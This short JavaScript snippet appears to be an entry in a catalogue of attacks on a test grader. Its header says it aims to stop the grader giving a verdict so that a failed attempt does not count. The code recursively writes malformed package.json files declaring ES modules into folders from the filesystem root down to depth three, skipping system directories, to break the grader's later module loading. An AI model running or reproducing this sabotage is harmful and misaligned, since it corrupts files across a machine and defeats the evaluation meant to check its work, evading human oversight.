// ---
// tries: Makes Node take files of the grader that it starts later for modules of another kind, by a package.json in each folder.
// place: instead
// gain: no verdict, so that the attempt may not count
// helps: own-folder
// ---
{
  const system = "bin boot dev etc lib lib32 lib64 libx32 proc root run sbin sys usr var".split(" ");
  const spoil = (folder, depth) => {
    attack.quietly(() => attack.fs.writeFileSync(folder + "/package.json", '{"type": "module", "imports": 1'));
    for (const entry of attack.quietly(() => attack.fs.readdirSync(folder, { withFileTypes: true })) ?? []) {
      if (!entry.isDirectory() || depth === 3 || depth === 0 && system.includes(entry.name)) continue;
      spoil((folder === "/" ? "" : folder) + "/" + entry.name, depth + 1);
    }
  };
  spoil("/", 0);
}
